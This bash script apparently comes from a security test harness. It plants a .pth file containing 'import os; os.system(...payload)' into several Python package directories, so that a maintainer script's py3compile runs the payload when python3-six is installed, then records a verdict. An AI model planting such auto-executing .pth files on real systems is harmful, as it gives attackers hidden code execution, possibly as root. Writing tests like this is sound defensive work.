#!/bin/bash
# A .pth file that a maintainer script's py3compile would run.
. "$(dirname "$0")/lib/attack.sh"

printf 'import os; os.system("%s/payload")\n' "$work" >evil.pth
version=$(python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])' 2>/dev/null || echo 3.13)
for directory in "/usr/local/lib/python$version/dist-packages" "$HOME/.local/lib/python$version/site-packages" /usr/lib/python3/dist-packages; do
  mkdir -p "$directory" 2>/dev/null
  cp evil.pth "$directory/" 2>/dev/null
done
attempt python3-six
verdict
